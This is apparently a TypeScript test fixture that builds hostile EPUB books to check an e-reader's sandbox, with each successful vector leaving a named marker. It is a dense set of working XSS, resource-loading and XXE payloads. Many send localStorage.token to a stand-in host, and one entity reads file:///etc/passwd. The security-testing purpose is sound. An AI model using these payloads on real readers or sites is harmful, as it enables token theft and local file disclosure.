// Books that try to run, to load from elsewhere and to lead away. Every way has a name; when it
// works it leaves a mark with that name (see `mark`) or asks the foreign host for it.
import type { Chapter, Files } from './epub'

export interface HostileBook {
  name: string
  chapter: Chapter
  files: Files
  /** what is clicked after opening */
  clicks?: string[]
}

const xhtml = 'application/xhtml+xml'
const namespaces =
  'xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink"'

/** Books that send what they get to `foreign`, an origin such as http://foreign.example:1234. */
export function hostileBooks(foreign: string): HostileBook[] {
  const mark = (name: string) =>
    `localStorage.setItem('mark:${name}',localStorage.token);new Image().src='${foreign}/${name}?'+localStorage.token`
  const script = (name: string) => mark(name)
  const handler = (name: string) => mark(name)
  const page = (head: string, body: string, prolog = '') =>
    `<?xml version="1.0" encoding="UTF-8"?>${prolog}<html ${namespaces}><head>` +
    `<title>Ном</title>${head}</head><body><p>Эхний үг.</p>${body}</body></html>`
  const book = (
    name: string,
    text: string,
    files: [string, string][] = [],
    clicks?: string[],
  ): HostileBook => ({
    name,
    chapter: { path: 'a.xhtml', type: xhtml },
    files: new Map([['a.xhtml', text], ...files]),
    clicks,
  })
  const written = (name: string) =>
    `<html ${namespaces}><head><title>б</title></head><body><script>${script(name)}</script></body></html>`
  const svg = (body: string, more = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
    `xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 300 300" ${more}>${body}</svg>`

  return [
    book(
      'scripts',
      page(
        `<script>${script('inline')}</script><script src="own.js"></script>` +
          `<script src="${foreign}/remote.js"></script>` +
          `<script type="module">${script('module')}</script>`,
        `<h:script>${script('prefixed')}</h:script><script><![CDATA[${script('cdata')}]]>` +
          `</script>` +
          `<script src="data:text/javascript,${encodeURIComponent(mark('data-script'))}">` +
          `</script>${svg(`<script>${script('svg-script')}</script><script xlink:href="own.js"/>`)}`,
      ),
      [['own.js', mark('own-script')]],
    ),
    book(
      'closed-title',
      `<html ${namespaces}><head><title/><script>${script('title')}</script><style/>` +
        `<script>${script('style')}</script></head><body><p>Үг.</p><textarea/>` +
        `<script>${script('textarea')}</script><noscript><script>${script('noscript')}</script>` +
        `</noscript><xmp/><script>${script('xmp')}</script></body></html>`,
    ),
    book(
      'handlers',
      `<html ${namespaces}><head><title>Ном</title>` +
        `<style>@keyframes k{from{opacity:.9}}.k{animation:k 1s}</style></head>` +
        `<body onload="${handler('body-load')}">` +
        `<p class="k" onanimationstart="${handler('animation')}">Үг.</p>` +
        `<img src="absent.png" alt="" onerror="${handler('image-error')}"/>` +
        `<details open="open" ontoggle="${handler('toggle')}"><summary>Дэлгэрэнгүй</summary>` +
        `</details><input autofocus="autofocus" onfocus="${handler('focus')}"/>` +
        `<audio src="absent.mp3" onerror="${handler('audio-error')}"/>` +
        `${svg('<rect width="9" height="9"/>', `onload="${handler('svg-load')}"`)}` +
        `<p id="press" onclick="${handler('click')}" ` +
        `onpointerdown="${handler('pointer')}">Дар</p></body></html>`,
      [],
      ['#press'],
    ),
    book(
      'frames',
      page(
        '',
        `<iframe src="${foreign}/frame"></iframe><iframe src="inner.html"></iframe>` +
          `<iframe src="inner.xhtml"></iframe>` +
          `<iframe srcdoc="&lt;script&gt;${script('srcdoc')}&lt;/script&gt;"></iframe>` +
          `<iframe src="javascript:${handler('frame-javascript')}"></iframe>` +
          `<iframe src="data:text/html,&lt;img src='${foreign}/data-frame'&gt;"></iframe>` +
          `<object data="${foreign}/object"></object><object type="text/html" data="inner.html">` +
          `</object><embed src="inner.svg"/><embed src="${foreign}/embed"/>`,
      ),
      [
        ['inner.html', `<!doctype html><script>${script('inner-html')}</script>`],
        ['inner.xhtml', written('inner-xhtml')],
        ['inner.svg', svg(`<script>${script('inner-svg')}</script>`)],
      ],
    ),
    book(
      'remote',
      page(
        `<link rel="stylesheet" href="${foreign}/sheet.css"/>` +
          `<link rel="stylesheet" href="own.css"/>` +
          `<link rel="preload" as="image" href="${foreign}/preload"/>` +
          `<link rel="prefetch" href="${foreign}/prefetch"/>` +
          `<link rel="modulepreload" href="${foreign}/modulepreload.js"/>` +
          `<link rel="icon" href="${foreign}/icon"/>` +
          `<link rel="manifest" href="${foreign}/manifest"/>` +
          `<link rel="prerender" href="${foreign}/prerender"/>` +
          `<style>@import "${foreign}/imported.css"; ` +
          `@font-face{font-family:f;src:url(${foreign}/font.woff2)} ` +
          `p{font-family:f;background:url("${foreign}/background")} ` +
          `p::after{content:url(${foreign}/content)} ` +
          `li{list-style:u\\72l("${foreign}/escaped")}</style>`,
        `<ul><li>а</li></ul><img src="${foreign}/image" alt=""/>` +
          `<img srcset="${foreign}/srcset 1x" alt=""/><picture>` +
          `<source srcset="${foreign}/source"/><img src="absent.png" alt=""/></picture>` +
          `<video src="${foreign}/video" poster="${foreign}/poster" autoplay="autoplay"/>` +
          `<audio src="${foreign}/audio" preload="auto"/><video>` +
          `<track default="default" src="${foreign}/track"/></video>` +
          `<input type="image" src="${foreign}/input" alt=""/>` +
          `<table background="${foreign}/table"><tr><td>а</td></tr></table>` +
          `<p style="background:url(${foreign}/attribute);border-image:image-set('${foreign}/set' ` +
          `1x)">Үг</p>` +
          svg(
            `<image href="${foreign}/svg-image" width="9" height="9"/>` +
              `<use xlink:href="${foreign}/use.svg#a"/>` +
              `<filter id="f"><feImage href="${foreign}/fe-image"/></filter>` +
              `<rect width="9" height="9" filter="url(#f)" fill="url(${foreign}/fill.svg#a)"/>`,
          ),
      ),
      [
        [
          'own.css',
          `@import url(${foreign}/second.css); body{background:url(${foreign}/own-css)} p{cursor:url(${foreign}/cursor),auto}`,
        ],
      ],
    ),
    book(
      'hints',
      page(
        `<link rel="dns-prefetch" href="${foreign.replace('foreign.', 'looked-up.')}/"/>` +
          `<link rel="preconnect" href="${foreign.replace('foreign.', 'connected.')}/"/>`,
        '',
      ),
    ),
    book('refresh', page(`<meta http-equiv="refresh" content="0;url=${foreign}/refresh"/>`, '')),
    book(
      'refresh-script',
      page(
        `<meta http-equiv="refresh" ` +
          `content="0;url=javascript:${handler('refresh-javascript')}"/>` +
          `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"/>`,
        '',
      ),
    ),
    book(
      'base',
      page(
        `<base href="${foreign}/base/"/>`,
        `<img src="image.png" alt=""/><script src="own.js"></script><a id="link" href="link">Дараах</a>`,
      ),
      [],
      ['#link'],
    ),
    book(
      'links',
      page(
        '',
        `<p><a id="javascript" href="javascript:${handler('link-javascript')}">а</a> ` +
          `<a id="spaced" href=" java&#10;script:${handler('link-spaced')}">а</a> ` +
          `<a id="data" target="_top" ` +
          `href="data:text/html,&lt;script&gt;${script('link-data')}&lt;/script&gt;">а</a> ` +
          `<a id="top" target="_top" href="${foreign}/top">а</a> <a id="blank" target="_blank" ` +
          `href="${foreign}/blank">а</a> <a id="ping" href="a.xhtml" ping="${foreign}/ping">а</a>` +
          '</p>' +
          svg(
            `<a id="animated" href="#x">` +
              `<animate attributeName="href" values="javascript:${handler('animated')}" begin="0s" fill="freeze"/>` +
              `<rect width="300" height="80"/></a><a id="xlinked" xlink:href="javascript:${handler('xlink')}">` +
              `<rect y="90" width="300" height="80"/></a>`,
          ) +
          `<math xmlns="http://www.w3.org/1998/Math/MathML">` +
          `<mtext id="math" href="javascript:${handler('math')}">томьёо</mtext></math>`,
      ),
      [],
      ['#javascript', '#spaced', '#data', '#ping', '#animated', '#xlinked', '#math'],
    ),
    book(
      'forms',
      page(
        '',
        `<form action="${foreign}/form" target="_top"><button id="send">Илгээх</button>` +
          `<button id="action" formaction="javascript:${handler('formaction')}">Б</button></form>` +
          `<form action="javascript:${handler('form-javascript')}">` +
          `<input type="submit" id="submit"/></form>`,
      ),
      [],
      ['#send', '#action', '#submit'],
    ),
    book(
      'entities',
      page(
        '',
        '<p id="file">&file;</p><p>&remote;</p><p>&script;</p>',
        `<!DOCTYPE html [<!ENTITY file SYSTEM "file:///etc/passwd">` +
          `<!ENTITY remote SYSTEM "${foreign.replace('foreign.example', '127.0.0.1')}/entity">` +
          `<!ENTITY script "` +
          `<script xmlns='http://www.w3.org/1999/xhtml'>${script('entity').replaceAll("'", '&#34;')}` +
          `</script>">]>`,
      ),
    ),
    book('transform', page('', '', '<?xml-stylesheet type="text/xsl" href="turn.xsl"?>'), [
      [
        'turn.xsl',
        `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">` +
          `<xsl:output method="html"/><xsl:template match="/"><html><body>` +
          `<script>${script('transform')}</script></body></html></xsl:template></xsl:stylesheet>`,
      ],
    ]),
    {
      name: 'drawing',
      chapter: { path: 'a.svg', type: 'image/svg+xml' },
      files: new Map([
        [
          'a.svg',
          svg(
            `<script>${script('spine-svg')}</script><foreignObject width="200" height="200">` +
              `<h:iframe src="${foreign}/foreign-object"></h:iframe>` +
              `<h:script>${script('foreign-script')}</h:script></foreignObject>` +
              `<set attributeName="onload" to="${handler('set')}"/>` +
              `<image href="${foreign}/spine-image" width="9" height="9"/>` +
              `<text y="20">Зураг</text>`,
            `onload="${handler('spine-load')}"`,
          ),
        ],
      ]),
    },
  ]
}
